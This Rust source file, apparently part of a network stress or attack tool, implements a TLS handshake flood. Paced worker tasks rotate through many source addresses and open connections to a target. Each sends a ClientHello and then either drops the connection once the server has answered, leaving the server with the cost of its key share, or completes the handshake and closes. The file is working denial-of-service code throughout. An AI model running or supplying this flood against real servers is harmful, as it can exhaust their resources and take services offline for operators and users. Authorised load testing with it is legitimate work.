//! TLS handshake flood: new connections as fast as the rate allows, each sending a
//! ClientHello and then either abandoning the handshake once the server has answered (it
//! paid for its key share) or completing it and closing.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::Result;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::net::{connect_from, tls_from};
use crate::pacing::Budget;
use crate::report::Report;
use crate::sources::Sources;

#[derive(Debug, Clone, Copy, clap::ValueEnum)]
pub enum Mode {
    Abandon,
    Complete,
}

#[derive(Default)]
struct Counts {
    attempts: AtomicU64,
    answered: AtomicU64,
    failed: AtomicU64,
}

async fn abandon(
    src: std::net::Ipv4Addr,
    target: SocketAddr,
    tls: Arc<rustls::ClientConfig>,
    name: &str,
) -> Result<()> {
    let mut tcp = connect_from(Some(src), target).await?;
    let server = rustls::pki_types::ServerName::try_from(name.to_string())?;
    let mut conn = rustls::ClientConnection::new(tls, server)?;
    let mut hello = Vec::new();
    conn.write_tls(&mut hello)?;
    tcp.write_all(&hello).await?;
    let mut buf = [0u8; 4096];
    let n = tokio::time::timeout(Duration::from_secs(3), tcp.read(&mut buf)).await??;
    anyhow::ensure!(n > 0, "closed before the server hello");
    Ok(())
}

pub async fn run(
    target: SocketAddr,
    sources: Sources,
    tls: Arc<rustls::ClientConfig>,
    name: &str,
    mode: Mode,
    budget: Budget,
    workers: u64,
) -> Result<Report> {
    let counts = Arc::new(Counts::default());
    let start = Instant::now();
    let mut tasks = tokio::task::JoinSet::new();
    for w in 0..workers.max(1) {
        let (counts, tls, name) = (counts.clone(), tls.clone(), name.to_string());
        tasks.spawn(async move {
            loop {
                let i = counts.attempts.fetch_add(1, Ordering::Relaxed);
                if budget.over(start, i) {
                    counts.attempts.fetch_sub(1, Ordering::Relaxed);
                    return;
                }
                // Pace to the rate: attempt i is due at i / rate seconds.
                let due = Duration::from_secs_f64(i as f64 / budget.rate.max(1) as f64);
                if let Some(wait) = due.checked_sub(start.elapsed()) {
                    tokio::time::sleep(wait).await;
                }
                let src = sources.nth(i.wrapping_mul(7919) + w);
                let ok = match mode {
                    Mode::Abandon => abandon(src, target, tls.clone(), &name).await.is_ok(),
                    Mode::Complete => tls_from(Some(src), target, tls.clone(), &name)
                        .await
                        .is_ok(),
                };
                let c = if ok { &counts.answered } else { &counts.failed };
                c.fetch_add(1, Ordering::Relaxed);
            }
        });
    }
    while tasks.join_next().await.is_some() {}
    let (a, ok, failed) = (
        counts.attempts.load(Ordering::Relaxed),
        counts.answered.load(Ordering::Relaxed),
        counts.failed.load(Ordering::Relaxed),
    );
    let secs = start.elapsed().as_secs_f64();
    let mut r = Report::new();
    r.add("attempts", a)
        .add(
            match mode {
                Mode::Abandon => "server_hellos",
                Mode::Complete => "handshakes",
            },
            ok,
        )
        .add("failed", failed)
        .add("per_sec", format!("{:.0}", ok as f64 / secs.max(0.001)));
    Ok(r)
}
